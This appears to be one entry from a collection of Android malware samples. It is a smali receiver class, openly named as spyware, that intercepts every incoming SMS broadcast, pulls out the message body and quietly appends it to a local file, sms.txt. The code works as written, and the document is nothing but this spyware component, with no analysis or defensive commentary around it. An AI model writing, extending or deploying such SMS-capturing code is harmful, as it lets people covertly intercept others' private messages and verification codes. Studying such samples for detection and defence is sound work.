# The wider catalog: an SMS from the SMS_RECEIVED broadcast ("pdus" extra, SmsMessage) into sms.txt.
.class public Lcom/trowel/spyware/SmsReceiver;
.super Landroid/content/BroadcastReceiver;

.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 7
    invoke-virtual {p2}, Landroid/content/Intent;->getExtras()Landroid/os/Bundle;
    move-result-object v0
    const-string v1, "pdus"
    invoke-virtual {v0, v1}, Landroid/os/Bundle;->get(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, [Ljava/lang/Object;
    const/4 v1, 0x0
    aget-object v0, v0, v1
    check-cast v0, [B
    invoke-static {v0}, Landroid/telephony/SmsMessage;->createFromPdu([B)Landroid/telephony/SmsMessage;
    move-result-object v0
    invoke-virtual {v0}, Landroid/telephony/SmsMessage;->getMessageBody()Ljava/lang/String;
    move-result-object v1
    const-string v2, "sms.txt"
    const v3, 0x8000
    invoke-virtual {p1, v2, v3}, Landroid/content/Context;->openFileOutput(Ljava/lang/String;I)Ljava/io/FileOutputStream;
    move-result-object v2
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    invoke-virtual {v2, v1}, Ljava/io/FileOutputStream;->write([B)V
    return-void
.end method
